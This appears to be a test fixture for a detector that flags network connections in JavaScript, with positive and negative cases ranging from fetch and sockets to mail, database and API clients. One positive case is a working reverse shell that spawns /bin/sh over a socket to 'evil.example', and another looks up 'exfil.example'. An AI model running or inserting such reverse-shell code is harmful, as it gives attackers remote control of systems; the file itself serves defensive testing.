//@ pos net.connect
const net = require('net');
const s = net.connect(4444, '10.0.0.1');
//@ pos a reverse shell over net.Socket
const net = require('net'), cp = require('child_process');
const sock = new net.Socket();
sock.connect(4444, 'evil.example', () => { const sh = cp.spawn('/bin/sh'); sock.pipe(sh.stdin); });
//@ pos tls.connect
import tls from 'node:tls';
tls.connect(443, 'x.example');
//@ pos dgram
require('dgram').createSocket('udp4').send('x', 53, '8.8.8.8');
//@ pos https.get
const https = require('https');
https.get('https://example.com', (res) => res.pipe(process.stdout));
//@ pos http.request destructured
const { request } = require('http');
request({ host: 'example.com' }).end();
//@ pos fetch
const r = await fetch('https://example.com/x');
//@ pos fetch through globalThis
globalThis['fet' + 'ch']('https://x.example');
//@ pos WebSocket
const ws = new WebSocket('wss://example.com');
//@ pos the ws package
const WebSocket = require('ws');
new WebSocket('ws://x');
//@ pos axios
const axios = require('axios');
axios.post('https://x.example', data);
//@ pos node-fetch
import fetch from 'node-fetch';
fetch(url);
//@ pos an http server
require('http').createServer((req, res) => res.end('hi')).listen(8080);
//@ pos dns lookup
require('dns').lookup('exfil.example', () => {});
//@ neg a local fetch
function fetch(key) { return cache[key]; }
fetch('a');
//@ neg the words in strings
console.log('https://example.com', "net.connect(80)");
//@ neg a method named get on a Map
const m = new Map();
m.set('a', 1);
console.log(m.get('a'));
//@ neg url parsing without a connection
const { URL } = require('url');
console.log(new URL('https://example.com/x').hostname);
//@ neg an ordinary program: a judge solution and a data script
// An online-judge solution and a data script: nothing here should be reported.
const readline = require('readline');
const rl = readline.createInterface({ input: process.stdin });
const lines = [];
rl.on('line', (l) => lines.push(l));
rl.on('close', () => {
  const [n, k] = lines[0].split(' ').map(Number);
  const a = lines[1].split(' ').map(Number);
  let total = 0;
  for (let i = 0; i < n; i++) total = total + a[i];
  total = total % 1000000007;
  const memo = new Map();
  function solve(i, j) {
    const key = i + ',' + j;
    if (memo.has(key)) return memo.get(key);
    const r = i >= n ? 0 : Math.max(solve(i + 1, j), a[i] + solve(i + 2, j));
    memo.set(key, r);
    return r;
  }
  const out = [];
  out.push(String(total), String(solve(0, k)));
  const re = /(\d+)-(\d+)/g;
  let m;
  while ((m = re.exec(lines[2] || '')) !== null) out.push(m[1] + m[2]);
  process.stdout.write(out.join('\n') + '\n');
});
const fs = require('fs');
const path = require('path');
const csv = fs.readFileSync(path.join(__dirname, 'in.csv'), 'utf8');
const rows = csv.split('\n').filter(Boolean).map((r) => r.split(','));
const byKey = rows.reduce((acc, [k, v]) => ({ ...acc, [k]: (acc[k] || 0) + Number(v) }), {});
fs.writeFileSync('out.json', JSON.stringify(byKey, null, 2));
const cfg = { retries: Number(process.env.RETRIES || 3), home: process.env.HOME };
console.log(`done: ${Object.keys(byKey).length} keys`, cfg.retries, process.argv.slice(2));
class Stack { constructor() { this.items = []; } push(x) { this.items.push(x); } pop() { return this.items.pop(); } }
const st = new Stack(); st.push(1); st.pop();
setTimeout(() => console.log('bye'), 10);
const sorted = [...rows].sort((x, y) => x[0].localeCompare(y[0]));
const buf = Buffer.from('hello').toString('base64');
console.log(sorted.length, buf, encodeURIComponent('a b'), JSON.parse('{"x":1}').x);
//@ pos a nodemailer transport
const nodemailer = require('nodemailer');
nodemailer.createTransport({ host: 'smtp.example.com' }).sendMail({ text: 'x' });
//@ pos SendGrid's send
const sg = require('@sendgrid/mail');
sg.send({ to: 'a@example.com', text: 'x' });
//@ pos an SFTP client
const Client = require('ssh2-sftp-client');
new Client().connect({ host: 'example.com' });
//@ neg a mail body built but not sent
const body = { to: 'a@example.com', text: 'hello' };
console.log(JSON.stringify(body));
//@ pos a Redis client
const { createClient } = require('redis');
createClient({ url: 'redis://cache.example.net' }).connect();
//@ pos a Kafka producer
const { Kafka } = require('kafkajs');
new Kafka({ brokers: ['b.example.net:9092'] }).producer().connect();
//@ pos an AMQP connection
const amqp = require('amqplib');
amqp.connect('amqp://mq.example.net');
//@ pos a Slack web client
const { WebClient } = require('@slack/web-api');
new WebClient('xoxb-1').chat.postMessage({ channel: '#a', text: 'x' });
//@ pos a PostgreSQL client
const { Client } = require('pg');
new Client({ host: 'db.example.net' }).connect();
//@ pos an SQS client (ES module)
import { SQSClient } from '@aws-sdk/client-sqs';
const sqs = new SQSClient({ region: 'us-east-1' });
//@ neg a local map named like a cache client
const cache = new Map();
cache.set('k', JSON.stringify({ a: 1 }));
//@ pos an OpenAI client
const OpenAI = require('openai');
new OpenAI({ apiKey: 'x' }).chat.completions.create({ model: 'm', messages: [] });
//@ pos a Twilio client
const twilio = require('twilio');
twilio('AC1', 't').messages.create({ to: '+1', from: '+2', body: 'x' });
//@ pos Sentry's init
const Sentry = require('@sentry/node');
Sentry.init({ dsn: 'https://a@o1.example.net/1' });
